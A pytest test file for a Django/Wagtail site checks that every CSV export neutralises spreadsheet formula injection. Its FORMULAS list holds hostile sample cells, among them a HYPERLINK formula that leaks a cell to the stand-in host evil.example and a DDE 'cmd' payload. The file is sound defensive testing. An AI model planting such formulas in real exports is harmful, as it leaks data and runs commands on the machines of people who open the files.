"""Every CSV the project writes neutralises formulas (issue 18, finding 2): a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, in every column of the
registrations export, the annual-report export, the overview summary and Wagtail's own reports."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from cms.core.exports import safe_cell, safe_csv_writer
from registers.access import NATIONAL_GROUP
from registers.models import AssessmentStatus
from tests.events.factories import RegistrationFactory
from tests.factories import EventIndexPageFactory, EventPageFactory, ServicePageFactory, UserFactory
from tests.registers.factories import AnnualReportFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response, delimiter=","):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def assert_no_live_formula(rows, expected_texts):
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(DANGEROUS_START) and cell != "-"]
    assert not live, live
    for text in expected_texts:
        assert "'" + text in cells, (text, cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+47 55 00 00 00", "'+47 55 00 00 00"),
        ("-", "-"),
        ("--", "'--"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kari Nordmann", "Kari Nordmann"),
        ("", ""),
        (None, None),
        (-5, -5),
        (datetime.date(2024, 1, 2), datetime.date(2024, 1, 2)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_csv_writer_neutralises_every_column():
    stream = io.StringIO()
    safe_csv_writer(stream, delimiter=";").writerow(["=a", "b", "@c", 3])
    assert stream.getvalue().strip() == "'=a;b;'@c;3"


@pytest.fixture
def admin_user():
    return UserFactory(username="admin-csv", is_superuser=True)


def test_registrations_export_has_no_live_formula(client, home_page, regions, admin_user):
    index = EventIndexPageFactory(parent=home_page, slug="arrangementer")
    event = EventPageFactory(parent=index, title="=Samling")
    for formula in FORMULAS:
        RegistrationFactory(event=event, name=formula, organisation=formula, diet=formula, accessibility=formula)
    client.force_login(admin_user)
    response = client.get(reverse("events_registration_modeladmin_index"), {"export": "csv"})
    assert response.status_code == 200
    assert_no_live_formula(read_csv(response), FORMULAS + ["=Samling"])


@pytest.fixture
def reports(region_pages, regions):
    """One unit per formula, titled with it, with a report of 2023 whose follow-up needs are the formula."""
    vest = regions["helse-vest"]
    result = []
    for number, formula in enumerate(FORMULAS):
        unit = ServicePageFactory(
            parent=region_pages["helse-vest"],
            title=formula,
            slug=f"formel-{number}",
            host_trusts=[vest.health_trusts.first()],
        )
        result.append(
            AnnualReportFactory(
                unit=unit,
                assessing_region=vest,
                year=2023,
                status=AssessmentStatus.FOLLOW_UP,
                follow_up_needs=formula,
            )
        )
    return result


def test_annual_report_export_has_no_live_formula(client, reports):
    client.force_login(UserFactory(username="nasjonal-csv", groups=[NATIONAL_GROUP]))
    response = client.get(reverse("registers_annualreport_modeladmin_index"), {"export": "csv"})
    assert response.status_code == 200
    assert_no_live_formula(read_csv(response), FORMULAS)


def test_overview_csv_has_no_live_formula(client, reports):
    client.force_login(UserFactory(username="nasjonal-csv", groups=[NATIONAL_GROUP]))
    response = client.get(reverse("registers_overview"), {"year": "2023", "format": "csv"})
    assert response.status_code == 200
    assert_no_live_formula(read_csv(response, delimiter=";"), FORMULAS)


def test_wagtail_reports_export_has_no_live_formula(client, region_pages, admin_user):
    page = ServicePageFactory(parent=region_pages["helse-nord"], title="=HYPERLINK(1)")
    page.save_revision(user=admin_user, log_action=True)
    client.force_login(admin_user)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    rows = read_csv(response)
    assert any("'=HYPERLINK(1)" in row for row in rows), rows
    assert_no_live_formula(rows, [])
